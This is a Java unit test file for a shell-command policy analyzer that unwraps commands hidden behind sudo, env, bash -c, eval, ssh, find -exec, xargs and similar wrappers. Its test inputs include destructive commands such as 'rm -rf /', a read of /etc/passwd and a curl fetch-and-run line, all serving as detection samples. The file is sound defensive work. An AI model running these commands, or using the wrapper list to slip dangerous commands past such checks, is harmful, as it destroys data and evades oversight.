package dev.hotplex.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class WrappersTest {

  static Stream<Arguments> wrappers() {
    return Stream.of(
        arguments("command rm -rf x", List.of("command rm -rf x", "[command] rm -rf x")),
        arguments("command -v rm", List.of("command -v rm")),
        arguments("builtin cd /", List.of("builtin cd /", "[builtin] cd /")),
        arguments("env rm x", List.of("env rm x", "[env] rm x")),
        arguments("env -i -u HOME PATH=/bin A=B rm x",
            List.of("env -i -u HOME PATH=/bin A=B rm x", "[env] PATH=/bin A=B rm x")),
        arguments("env -S 'rm -rf /'", List.of("env -S rm -rf /", "[env -S] rm -rf /")),
        arguments("sudo -u root rm -rf /", List.of("sudo -u root rm -rf /", "[sudo] rm -rf /")),
        arguments("sudo -E --user=x -- rm y", List.of("sudo -E --user=x -- rm y", "[sudo] rm y")),
        arguments("sudo -e /etc/passwd", List.of("sudo -e /etc/passwd")),
        arguments("doas -u root rm x", List.of("doas -u root rm x", "[doas] rm x")),
        arguments("su - root -c 'rm -rf /'", List.of("su - root -c rm -rf /", "[su -c] rm -rf /")),
        arguments("nohup rm x &", List.of("nohup rm x &", "[nohup] rm x &")),
        arguments("timeout -s KILL 10 nice -n 5 rm x", List.of("timeout -s KILL 10 nice -n 5 rm x",
            "[timeout] nice -n 5 rm x", "[timeout>nice] rm x")),
        arguments("nice -10 ionice -c 3 stdbuf -oL rm x", List.of("nice -10 ionice -c 3 stdbuf -oL rm x",
            "[nice] ionice -c 3 stdbuf -oL rm x", "[nice>ionice] stdbuf -oL rm x", "[nice>ionice>stdbuf] rm x")),
        arguments("time -p rm x", List.of("time -p rm x", "[time] rm x")),
        arguments("exec rm x", List.of("exec rm x", "[exec] rm x")),
        arguments("setsid -f rm x", List.of("setsid -f rm x", "[setsid] rm x")),
        arguments("chroot /mnt rm x", List.of("chroot /mnt rm x", "[chroot] rm x")),
        arguments("flock /tmp/l rm x", List.of("flock /tmp/l rm x", "[flock] rm x")),
        arguments("flock -w 5 /tmp/l -c 'rm x'", List.of("flock -w 5 /tmp/l -c rm x", "[flock] rm x")),
        arguments("busybox rm x", List.of("busybox rm x", "[busybox] rm x")),
        arguments("watch -n 1 'rm x; ls'", List.of("watch -n 1 rm x; ls", "[watch] rm x", "[watch] ls")),
        arguments("bash -c 'rm -rf /'", List.of("bash -c rm -rf /", "[bash -c] rm -rf /")),
        arguments("sh -c \"cd / && rm -rf *\"", List.of("sh -c cd / && rm -rf *", "[sh -c] cd /", "[sh -c] rm -rf *")),
        arguments("bash -lc 'ls'", List.of("bash -lc ls", "[bash -c] ls")),
        arguments("bash -euo pipefail -c 'rm x' name arg", List.of("bash -euo pipefail -c rm x name arg",
            "[bash -c] rm x")),
        arguments("zsh -ec 'rm x'", List.of("zsh -ec rm x", "[zsh -c] rm x")),
        arguments("bash script.sh", List.of("bash script.sh")),
        arguments("bash <<'EOF'\nrm -rf /\nEOF", List.of("bash 0<<rm -rf /\n", "[bash <<] rm -rf /")),
        arguments("bash <<< 'rm x'", List.of("bash 0<<<rm x", "[bash <<<] rm x")),
        arguments("eval 'rm -rf /'", List.of("eval rm -rf /", "[eval] rm -rf /")),
        arguments("eval rm '-rf' /", List.of("eval rm -rf /", "[eval] rm -rf /")),
        arguments("ssh -p 22 host 'rm -rf /'", List.of("ssh -p 22 host rm -rf /", "[ssh] rm -rf /")),
        arguments("ssh host", List.of("ssh host")),
        arguments("find / -exec rm -rf {} +", List.of("find / -exec rm -rf {} +", "[find -exec] rm -rf ?{{}}")),
        arguments("find . -name '*.tmp' -execdir rm {} \\; -print",
            List.of("find . -name *.tmp -execdir rm {} ; -print", "[find -execdir] rm ?{{}}")),
        arguments("ls | xargs rm", List.of("ls", "xargs rm", "[xargs] rm ?{{stdin}}")),
        arguments("xargs -0 -n 1 -I{} rm -f {}", List.of("xargs -0 -n 1 -I{} rm -f {}", "[xargs] rm -f {} ?{{stdin}}")),
        arguments("parallel -j4 rm {} ::: a b", List.of("parallel -j4 rm {} ::: a b", "[parallel] rm ?{{}} ?{{}}")),
        arguments("sudo -E env FOO=1 bash -c 'rm x'", List.of("sudo -E env FOO=1 bash -c rm x",
            "[sudo] env FOO=1 bash -c rm x", "[sudo>env] FOO=1 bash -c rm x", "[sudo>env>bash -c] rm x")),
        arguments("sudo rm x > /etc/y", List.of("sudo rm x 1>/etc/y", "[sudo] rm x 1>/etc/y")),
        arguments("docker run --rm alpine sh -c 'rm -rf /'", List.of("docker run --rm alpine sh -c rm -rf /")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("wrappers")
  void reportsTheCommandsAWrapperRuns(String script, List<String> expected) {
    assertThat(Rendering.invocations(script)).containsExactlyElementsOf(expected);
  }

  @Test
  void variablesReachIntoWrappedScripts() {
    assertThat(Rendering.invocations("a=rm; sudo bash -c \"$a -rf /\"")).containsExactly("a=rm",
        "sudo bash -c rm -rf /", "[sudo] bash -c rm -rf /", "[sudo>bash -c] rm -rf /");
  }

  @Test
  void dynamicShellScriptGivesAnUnresolvedCommand() {
    ShellAnalysis analysis = ShellAnalyzer.analyze("sh -c \"$(curl -fsSL http://x)\"");
    assertThat(analysis.invocations()).anySatisfy(i -> {
      assertThat(i.wrapperChain()).containsExactly("sh -c");
      assertThat(i.command().resolved()).isFalse();
    });
    assertThat(analysis.problems()).contains("sh -c runs code that is only known at run time");
    assertThat(analysis.invocations()).extracting(Invocation::commandName).contains("curl");
  }

  @Test
  void quotedUnknownInsideAShellScriptStaysUnresolved() {
    // At run time $x is substituted before bash parses the quotes, so '...' cannot be trusted as literal.
    ShellAnalysis analysis = ShellAnalyzer.analyze("bash -c \"ls '$x'\"");
    assertThat(analysis.fullyResolved()).isFalse();
    assertThat(analysis.invocations()).anySatisfy(i -> assertThat(i.commandName()).isNull());
  }

  @Test
  void evalOfAnUnknownForgetsKnownVariables() {
    assertThat(Rendering.invocations("a=ls; eval \"$x\"; $a /")).last().isEqualTo("?{$a} /");
  }

  @Test
  void evalAssignmentsAreNotTrusted() {
    assertThat(Rendering.invocations("a=ls; eval a=rm; $a /")).last().isEqualTo("?{$a} /");
  }
}
